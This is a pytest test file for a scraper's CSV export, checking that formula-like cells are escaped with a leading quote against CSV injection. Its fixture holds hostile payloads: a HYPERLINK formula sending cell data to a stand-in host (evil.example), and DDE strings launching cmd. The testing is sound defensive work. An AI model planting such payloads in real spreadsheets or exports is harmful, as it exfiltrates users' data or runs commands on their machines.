"""CSV export against CSV injection (OWASP): a cell a spreadsheet would run as a formula
(beginning with =, +, -, @, tab or CR) is written with a leading single quote."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from scraper.cli import cli
from scraper.export import csv_safe, write_articles
from scraper.models import Article
from scraper.store import Store

HOSTILE = {
    "headline": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "standfirst": "+1+cmd|' /C calc'!A0",
    "byline": "-2+3",
    "section": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "\t=1+1",
    "language": "\r=1+1",
}


def hostile_article(url: str = "https://news.example/a") -> Article:
    return Article(url=url, canonical_url=url, site="example", body="A plain body.",
                   authors=("=evil()", "Jane Doe"), tags=("news",), word_count=3, **HOSTILE)


def export_csv(articles: list[Article]) -> list[dict[str, str]]:
    out = io.StringIO()
    write_articles(articles, out, "csv")
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_formula_cells_get_a_leading_quote():
    row = export_csv([hostile_article()])[0]
    for field, value in HOSTILE.items():
        assert row[field] == "'" + value, field
    assert row["authors"] == "'=evil(); Jane Doe"


def test_ordinary_cells_are_unchanged():
    url = "https://news.example/b"
    article = Article(url=url, canonical_url=url, site="example", headline="Bridge reopens",
                      body="Text - with a dash, = and @ inside.", byline="Jane Doe",
                      word_count=7)
    row = export_csv([article])[0]
    assert row["headline"] == "Bridge reopens"
    assert row["body"] == "Text - with a dash, = and @ inside."
    assert row["word_count"] == "7" and row["url"] == url


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_safe_each_trigger(start):
    assert csv_safe(start + "x") == "'" + start + "x"


def test_csv_safe_leaves_other_values():
    assert csv_safe("x=1") == "x=1" and csv_safe("") == "" and csv_safe(-5) == -5
    assert csv_safe(None) is None


def test_export_command_escapes_csv_but_not_jsonl(tmp_path):
    db = tmp_path / "articles.db"
    with Store(db) as store:
        store.upsert_article(hostile_article())
    runner = CliRunner()
    result = runner.invoke(cli, ["export", "--db", str(db), "--format", "csv"],
                           catch_exceptions=False)
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["headline"] == "'" + HOSTILE["headline"]
    assert row["byline"] == "'-2+3"
    result = runner.invoke(cli, ["export", "--db", str(db)], catch_exceptions=False)
    record = json.loads(result.stdout.splitlines()[0])
    assert record["headline"] == HOSTILE["headline"]  # JSON is data, not a spreadsheet
